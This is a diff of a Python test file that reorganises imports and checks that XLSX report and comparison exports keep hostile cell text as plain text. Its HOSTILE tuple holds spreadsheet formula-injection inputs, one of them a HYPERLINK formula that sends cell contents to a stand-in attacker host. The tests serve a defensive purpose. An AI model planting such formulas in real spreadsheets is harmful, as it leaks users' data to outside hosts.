@@ -7,15 +7,16 @@ from __future__ import annotations
 
 import io
 from collections import Counter
-from datetime import datetime, timezone
+from datetime import UTC, datetime
 
 from openpyxl import load_workbook
 
-from engine import reports, runtime
-from engine.comparison import Cell, Comparison
-from engine.comparison_xlsx import write_comparison_xlsx
 from engine.models import Message
-from engine.report_xlsx import write_xlsx
+from engine.reports import summary as reports
+from engine.reports.comparison_xlsx import write_comparison_xlsx
+from engine.reports.summary_xlsx import write_xlsx
+from engine.runtime import cases as runtime
+from engine.views.comparison import Cell, Comparison
 
 HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"Открыть")', "=1+1", "+7 (495) 000", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1")
@@ -55,7 +56,7 @@ def test_the_comparison_writes_hostile_text_as_text() -> None:
 
 
 def test_the_report_download_keeps_a_typed_topic_as_text(app, client_for) -> None:  # type: ignore[no-untyped-def]
-    at = datetime(2025, 10, 31, 6, 0, tzinfo=timezone.utc)
+    at = datetime(2025, 10, 31, 6, 0, tzinfo=UTC)
     with app.extensions["otklik_db"].session() as session:
         instance = runtime.start_procedure(session, runtime.MessageInput(
             region="orenburg", network="vk", url="https://vk.com/wall-1_1", author="А", text="Т", posted_at=at,
